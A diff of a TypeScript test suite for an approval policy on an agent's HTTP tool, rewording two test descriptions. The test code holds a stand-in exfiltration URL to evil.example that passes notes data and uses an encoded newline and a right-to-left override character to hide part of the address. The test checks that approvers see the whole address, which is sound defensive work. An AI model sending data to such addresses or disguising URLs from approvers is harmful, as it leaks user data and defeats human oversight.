@@ -105,7 +105,7 @@ describe('the network of tools that read whatever address they are given', () =>
   const to = (url: string, method = 'GET') => ({ goesTo: { method, url }, tool: 'http__get' })
   const evil = 'https://evil.example/?d=notes%0A\u202e'
 
-  it('P4: is closed by default: somebody is asked, and shown method, host and the whole address with nothing hidden', async () => {
+  it('P4: is closed by default: an approval is asked for, and shows method, host and the whole address with nothing hidden', async () => {
     const { policy, approvals, subject } = open({})
     const call = { ...subject, ...to(evil) }
     expect(await policy.decide(call)).toEqual({ allow: true })
@@ -258,7 +258,7 @@ describe('C3: of tools that were found', () => {
     expect(await open(given).deniedOf(tools, by)).toEqual(expected)
   })
 
-  it('denies nothing while nobody knows the policy: each call is refused then', async () => {
+  it('denies nothing while the policy is unknown: each call is refused then', async () => {
     expect(await open({}, { snapshot: away }).deniedOf(tools, by)).toEqual([])
   })
 })
